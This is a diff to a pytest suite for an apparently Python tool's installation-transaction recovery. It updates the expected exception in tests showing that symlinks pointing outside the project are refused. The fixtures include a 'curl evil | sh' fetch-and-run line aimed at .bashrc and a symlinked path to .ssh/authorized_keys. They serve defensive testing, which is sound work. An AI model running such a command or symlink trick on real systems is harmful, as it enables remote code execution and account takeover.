@@ -11,6 +11,7 @@ from pathlib import Path
 
 import pytest
 
+from rye.errors import RyeError
 from rye.installation import transaction
 from rye.installation.transaction import Change, TransactionError, exclusive, needs_recovery, recover
 from rye.project.layout import Project
@@ -76,7 +77,7 @@ def test_a_kept_file_is_never_put_back_through_a_link(tmp_path: Path, link: str,
     (project.root / link).parent.mkdir(parents=True, exist_ok=True)
     (project.root / link).symlink_to(outside)
     interrupted(project, [(f"{link}/.bashrc", existed)], old={0: "curl evil | sh"})
-    with pytest.raises(TransactionError, match="symbolic link") as raised:
+    with pytest.raises(RyeError, match="symbolic link") as raised:
         undo(project)
     assert raised.value.code == "symlink-in-the-way"
     assert raised.value.hint
@@ -90,7 +91,7 @@ def test_a_file_outside_is_never_removed_as_if_an_interrupted_run_had_made_it(tm
     project = at(tmp_path / "project", {".ai/packages/real/file": "text"})
     (project.packages / "evil").symlink_to(outside)
     interrupted(project, [(".ai/packages/evil/.ssh/authorized_keys", False)])
-    with pytest.raises(TransactionError, match="symbolic link"):
+    with pytest.raises(RyeError, match="symbolic link"):
         undo(project)
     assert (outside / ".ssh/authorized_keys").read_text() == "mine"
 
@@ -102,7 +103,7 @@ def test_a_link_in_a_files_own_place_stops_the_undoing(tmp_path: Path, place: st
     (tmp_path / "target").write_text("mine")
     (project.root / place).symlink_to(tmp_path / "target")
     work = interrupted(project, [(place, existed)], old={0: "old"})
-    with pytest.raises(TransactionError, match="symbolic link"):
+    with pytest.raises(RyeError, match="symbolic link"):
         undo(project)
     assert (project.root / place).is_symlink()
     assert (tmp_path / "target").read_text() == "mine"
@@ -121,7 +122,7 @@ def test_a_link_that_appears_in_the_middle_of_a_change_is_not_followed_back(tmp_
             (project.packages / "acme").symlink_to(outside)
             raise OSError("stopped")
 
-    with pytest.raises(TransactionError, match="symbolic link"), exclusive(project, step=swap) as writer:
+    with pytest.raises(RyeError, match="symbolic link"), exclusive(project, step=swap) as writer:
         writer.apply([Change(".ai/packages/acme/file", b"new")])
     assert (outside / "file").read_text() == "mine"
 
@@ -132,7 +133,7 @@ def test_a_link_in_a_new_files_place_is_refused_before_anything_moves(tmp_path: 
     (project.packages / "acme/link").symlink_to(tmp_path / "target")
     before = tree(project.root)
     for change in (Change(".ai/packages/acme/link", b"new"), Change(".ai/packages/acme/link", None)):
-        with pytest.raises(TransactionError, match="symbolic link"), exclusive(project) as writer:
+        with pytest.raises(RyeError, match="symbolic link"), exclusive(project) as writer:
             writer.apply([Change(".ai/packages/acme/first", b"new"), change])
         assert tree(project.root) == before
     assert (tmp_path / "target").read_text() == "mine"
@@ -143,7 +144,7 @@ def test_a_packages_folder_or_lock_that_is_a_link_stops_every_run(tmp_path: Path
         project = at(tmp_path / name, {"rye.toml": ""})
         link = project.packages if name == "packages" else project.lock_path
         link.symlink_to(tmp_path / "elsewhere")
-        with pytest.raises(TransactionError, match="symbolic link"):
+        with pytest.raises(RyeError, match="symbolic link"):
             undo(project)
         assert not (project.ai / ".rye").exists(), "refused before anything is made"
 
@@ -154,7 +155,7 @@ def test_a_working_folder_that_is_a_link_gets_nothing(tmp_path: Path, name: str)
     link = tmp_path / "project" / name
     link.parent.mkdir(parents=True)
     link.symlink_to(tmp_path / "home")
-    with pytest.raises(TransactionError, match="symbolic link"):
+    with pytest.raises(RyeError, match="symbolic link"):
         undo(Project(tmp_path / "project"))
     assert list((tmp_path / "home").iterdir()) == []
 
